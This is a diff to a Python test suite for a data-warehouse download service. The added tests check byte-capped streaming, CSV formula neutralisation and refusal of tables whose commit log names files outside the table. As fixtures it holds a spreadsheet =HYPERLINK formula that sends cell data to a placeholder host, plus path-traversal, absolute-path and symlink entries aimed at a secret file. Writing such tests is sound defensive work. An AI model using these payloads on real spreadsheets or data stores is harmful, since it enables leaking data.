@@ -103,6 +103,11 @@ def test_bad_requests_are_refused_in_one_line(wh, kw, needle):
     assert needle in str(e.value) and "\n" not in str(e.value)
 
 
+def _body(got: tuple) -> tuple[bytes, str]:
+    chunks, media = got
+    return b"".join(chunks), media
+
+
 def test_downloads_are_bounded_csv_or_parquet(wh):
     import io
 
@@ -110,15 +115,66 @@ def test_downloads_are_bounded_csv_or_parquet(wh):
     import pyarrow.parquet as pq
 
     p = data.confine("out")
-    body, media = data.download(p, "csv", limit=3)
+    body, media = _body(data.download(p, "csv", limit=3))
     assert media == "text/csv" and pacsv.read_csv(io.BytesIO(body)).num_rows == 3
-    body, media = data.download(p, "parquet", column="right_id", value="0", limit=10_000)
+    body, media = _body(data.download(p, "parquet", column="right_id", value="0", limit=10_000))
     t = pq.read_table(io.BytesIO(body))
     assert media.endswith("parquet") and t.num_rows == sum(1 for i in [*range(1000), *range(5000, 5005)] if i % 7 == 0)
     with pytest.raises(data.Refused, match="invalid format 'xlsx': allowed csv or parquet"):
         data.download(p, "xlsx")
     with pytest.raises(data.Refused, match="invalid limit"):
         data.download(p, "csv", limit=data.MAX_DOWNLOAD_ROWS + 1)
+
+
+def test_downloads_stream_in_bounded_memory_and_stop_at_the_byte_cap(tmp_path, monkeypatch):
+    """Issue 57: a download is capped in bytes as well as rows, and streams batch by batch: wide
+    rows (1,024-dimension vectors) never sit in memory whole, and the result is well-formed up to
+    the last whole slice."""
+    import io
+
+    import pyarrow.csv as pacsv
+    import pyarrow.parquet as pq
+
+    root = tmp_path / "w"
+    monkeypatch.setenv("SIMJOIN_WAREHOUSE", str(root))
+    n, dim = 20_000, 1024
+    vec = pa.FixedSizeListArray.from_arrays(pa.array(np.random.default_rng(1).random(n * dim)), dim)
+    write_deltalake(root / "vecs", pa.table({"id": pa.array(np.arange(n), pa.int64()), "vector": vec}))
+    p = data.confine("vecs")
+    chunks, _ = data.download(p, "parquet", limit=n, max_bytes=32 * 2**20)
+    sizes = [len(c) for c in chunks]  # each chunk is let go before the next is made
+    # slices of about DOWNLOAD_CHUNK_BYTES: a batch of 1,024 vectors (8 MiB) is not held as one piece
+    assert len(sizes) > 8 and max(sizes) <= 1.25 * data.DOWNLOAD_CHUNK_BYTES
+    body, _ = _body(data.download(p, "parquet", limit=n, max_bytes=32 * 2**20))
+    t = pq.read_table(io.BytesIO(body))
+    assert 0 < t.num_rows < n and t.column("id").to_pylist() == list(range(t.num_rows))  # whole rows
+    assert sum(sizes) == len(body) <= 32 * 2**20
+    monkeypatch.setenv("SIMJOIN_UI_DOWNLOAD_MAX_BYTES", "5000")
+    body, _ = _body(data.download(p, "csv", limit=n))  # the vectors are not CSV: ids only
+    assert 0 < pacsv.read_csv(io.BytesIO(body)).num_rows < n and len(body) <= 5000
+
+
+def test_csv_downloads_neutralise_formulas(tmp_path, monkeypatch):
+    """Issue 57: a quarantined producer string ``=HYPERLINK(...)`` (and every cell that begins with
+    ``= + - @``, a tab or a carriage return) reaches the spreadsheet as text, prefixed with ``'``;
+    numbers and other strings are unchanged; Parquet keeps the values as they are."""
+    import io
+
+    import pyarrow.csv as pacsv
+    import pyarrow.parquet as pq
+
+    root = tmp_path / "w"
+    monkeypatch.setenv("SIMJOIN_WAREHOUSE", str(root))
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-3", "@SUM(A1)", "\tx", "\rx", "ok", None, "a=b"]
+    write_deltalake(root / "q", pa.table({"id": pa.array(range(-4, len(evil) - 4), pa.int64()), "producer": evil}))
+    p = data.confine("q")
+    body, _ = _body(data.download(p, "csv"))
+    got = pacsv.read_csv(io.BytesIO(body), convert_options=pacsv.ConvertOptions(
+        column_types={"producer": pa.string()}, strings_can_be_null=True))
+    assert got.column("producer").to_pylist() == ["'" + v for v in evil[:6]] + ["ok", None, "a=b"]
+    assert got.column("id").to_pylist() == list(range(-4, len(evil) - 4))  # numbers stay numbers
+    body, _ = _body(data.download(p, "parquet"))
+    assert pq.read_table(io.BytesIO(body)).column("producer").to_pylist() == evil
 
 
 def test_pages_escape_every_value(wh):
@@ -195,3 +251,40 @@ def test_the_plugin_reads_without_importing_spark(wh):
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "SIMJOIN_WAREHOUSE": wh})
     assert out.returncode == 0 and out.stdout.strip() == "False", out.stderr[-2000:]
+
+
+def _plant(table: str, version: int, add_path: str, like: str) -> None:
+    """A commit that adds ``add_path`` (as a hostile or broken writer could), with ``like``'s size."""
+    import json
+
+    entry = {"add": {"path": add_path, "partitionValues": {}, "size": os.path.getsize(like),
+                     "modificationTime": 0, "dataChange": True}}
+    with open(os.path.join(table, "_delta_log", f"{version:020d}.json"), "x") as fh:
+        fh.write(json.dumps({"commitInfo": {"operation": "WRITE", "timestamp": 0}}) + "\n" + json.dumps(entry) + "\n")
+
+
+@pytest.mark.parametrize("kind", ["absolute", "dotdot", "file-uri", "symlink"])
+def test_a_table_whose_log_names_a_file_outside_it_is_refused(wh, tmp_path, kind):
+    """Issue 57: a table in the warehouse whose commit adds ``../../secret/s.parquet``, an absolute
+    path or a symlink out of it: the page, the run's rows (``versions=``) and the download refuse
+    it (403), and no row of the secret file is returned."""
+    import pyarrow.parquet as pq
+
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    pq.write_table(pa.table({"left_id": pa.array([424242], pa.int64())}), secret / "s.parquet")
+    t = os.path.join(wh, "evil")
+    write_deltalake(t, pa.table({"left_id": pa.array([1], pa.int64())}))
+    target = {"absolute": str(secret / "s.parquet"), "file-uri": (secret / "s.parquet").as_uri(),
+              "dotdot": os.path.relpath(secret / "s.parquet", t)}.get(kind)
+    if kind == "symlink":
+        os.symlink(secret / "s.parquet", os.path.join(t, "inside.parquet"))
+        target = "inside.parquet"
+    assert (kind == "dotdot" and target.startswith("../")) or kind != "dotdot"
+    _plant(t, 1, target, str(secret / "s.parquet"))
+    for call in (lambda: data.rows(t), lambda: data.rows(t, versions=[1]), lambda: data.download(t, "csv"),
+                 lambda: data.download(t, "parquet", versions=[1])):
+        with pytest.raises(data.Refused, match=r"outside the table|not a local file") as err:
+            call()
+        assert err.value.status == 403 and "\n" not in str(err.value)
+    assert data.rows(t, version=0).table.column("left_id").to_pylist() == [1]  # before the planted commit
